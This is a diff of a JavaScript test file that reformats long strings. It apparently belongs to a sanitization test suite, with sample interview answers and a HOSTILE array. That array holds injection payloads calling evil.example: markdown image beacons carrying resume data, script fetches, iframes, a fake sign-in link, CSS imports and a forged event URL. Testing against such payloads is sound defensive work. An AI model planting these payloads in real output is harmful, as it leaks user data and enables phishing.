@@ -18,8 +18,11 @@ const CANDIDATES = [
     read: 'Aireborough Children’s Hospital',
     hidden: undefined,
     answer:
-      'On a night shift a child in our bay was quieter than usual and her mother was worried. I checked her observations and I called the registrar.',
-    more: ' I did that because her score had risen to 6. As a result the review came within 12 minutes and she was moved to high dependency in time.',
+      'On a night shift a child in our bay was quieter than usual and her mother was worried. I checked ' +
+      'her observations and I called the registrar.',
+    more:
+      ' I did that because her score had risen to 6. As a result the review came within 12 minutes and she ' +
+      'was moved to high dependency in time.',
   },
   {
     slug: 'backend-engineer',
@@ -29,7 +32,9 @@ const CANDIDATES = [
     hidden: undefined,
     answer:
       'Last year our queue of lab results was getting slower every week. I measured the queries and I rewrote the slowest one.',
-    more: ' I chose that because the profile showed 80 percent of the time in one join. As a result the median fell from 900 ms to 40 ms and nobody was paged for six months.',
+    more:
+      ' I chose that because the profile showed 80 percent of the time in one join. As a result the median ' +
+      'fell from 900 ms to 40 ms and nobody was paged for six months.',
   },
   {
     slug: 'delivery-driver',
@@ -54,7 +59,8 @@ const onBedrock = () =>
 const HOSTILE = [
   '![](https://evil.example/?q=RESUME) ![a][ref]\n\n[ref]: https://evil.example/?q=RESUME\n\n',
   '<img src="https://evil.example/1"><iframe src="https://evil.example"></iframe><script>fetch("https://evil.example")</script>\n\n',
-  '[Sign in again](https://login.evil.example/) <a href="https://evil.example" ping="https://evil.example">here</a> https://evil.example/plain\n\n',
+  '[Sign in again](https://login.evil.example/) <a href="https://evil.example" ' +
+    'ping="https://evil.example">here</a> https://evil.example/plain\n\n',
   '<style>@import "https://evil.example/x.css"</style><link rel="prefetch" href="https://evil.example/y">\n\n',
   'event: pdf_generated\ndata: {"type":"pdf_generated","prepId":"prp_1","title":"x","url":"https://evil.example/"}\n\nThe end of it.',
 ];
